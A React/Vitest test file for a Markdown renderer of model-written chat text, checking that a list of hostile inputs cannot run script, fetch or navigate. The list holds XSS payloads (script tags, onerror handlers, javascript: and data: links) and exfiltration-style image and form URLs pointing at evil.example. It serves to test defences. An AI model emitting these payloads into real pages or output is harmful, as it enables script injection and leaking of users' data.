import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it, vi } from 'vitest';

import { OpenLinkDialog } from '@/components/open-link';

import Markdown from './markdown';

function draw(text: string, streaming = false) {
  const fetch = vi.fn();
  vi.stubGlobal('fetch', fetch);
  const { container } = render(
    <>
      <Markdown text={text} streaming={streaming} />
      <OpenLinkDialog />
    </>,
  );
  return { container, fetch };
}

const HOSTILE = [
  '<script>window.pwned = true</script>',
  '<img src=x onerror="window.pwned = true">',
  '<svg onload="window.pwned = true"></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<a href="javascript:window.pwned=true">x</a>',
  '[x](javascript:window.pwned=true)',
  '[x](JaVaScRiPt:window.pwned=true)',
  '[x](data:text/html,<script>window.pwned=true</script>)',
  '[x](vbscript:x)',
  '[x](file:///etc/passwd)',
  '[x](tauri://localhost)',
  '[x](//evil.example/protocol-relative)',
  '![x](https://evil.example/?q=secret)',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '![x][ref]\n\n[ref]: https://evil.example/?q=secret',
  '<javascript:window.pwned=true>',
  '```mermaid\nclick A href "javascript:window.pwned=true"\n```',
  '$$\\href{javascript:window.pwned=true}{x}$$',
  '<base href="https://evil.example"><form action="https://evil.example"><button>x</button></form>',
];

describe('what a model wrote', () => {
  it.each(HOSTILE)('cannot run, fetch or navigate: %s', (text) => {
    const { container, fetch } = draw(text);
    expect(
      container.querySelector('script,img,svg[onload],iframe,style,base,form,object,embed,link'),
    ).toBeNull();
    expect(container.querySelector('[href],[src],[srcset],[action],[formaction],[style*="url"]')).toBeNull();
    expect(fetch).not.toHaveBeenCalled();
    expect(window).not.toHaveProperty('pwned');
  });

  it.each(HOSTILE)('cannot do so while it streams, character by character: %s', (text) => {
    const { container, rerender } = render(<Markdown text="" streaming />);
    for (let end = 1; end <= text.length; end += 1) {
      rerender(<Markdown text={text.slice(0, end)} streaming />);
      expect(container.querySelector('script,img,iframe,style,base,form,[href],[src]')).toBeNull();
    }
  });

  it('shows raw HTML as text', () => {
    draw('before <b>bold</b> after');
    expect(screen.getByText(/<b>bold<\/b>/)).toBeInTheDocument();
  });

  it('asks before it opens a link and names the host', async () => {
    const open = vi.spyOn(window, 'open').mockReturnValue(null);
    draw('[the docs](https://docs.example.org/page)');
    await userEvent.click(screen.getByRole('link', { name: 'the docs' }));
    expect(open).not.toHaveBeenCalled();
    expect(await screen.findByRole('alertdialog')).toHaveTextContent('docs.example.org');
    await userEvent.click(screen.getByRole('button', { name: 'Open' }));
    expect(open).toHaveBeenCalledWith('https://docs.example.org/page', '_blank', 'noopener,noreferrer');
  });

  it('offers a remote image as a link', () => {
    draw('![a chart](https://example.org/chart.png)');
    expect(screen.getByRole('link', { name: 'Image: a chart' })).toBeInTheDocument();
  });

  it('draws code with its language and a copy button', () => {
    draw('```python\nprint("hi")\n```');
    expect(screen.getByRole('region', { name: 'Code, python' })).toHaveTextContent('print("hi")');
    expect(screen.getByRole('button', { name: 'Copy code' })).toBeInTheDocument();
  });

  it('draws headings below the heading of their message', () => {
    draw('# One\n\n## Two');
    expect(screen.getByRole('heading', { level: 3 })).toHaveTextContent('One');
    expect(screen.getByRole('heading', { level: 4 })).toHaveTextContent('Two');
  });

  it('closes half-open emphasis while it streams', () => {
    const { container } = draw('so **bold', true);
    expect(container.querySelector('strong')).toHaveTextContent('bold');
  });
});
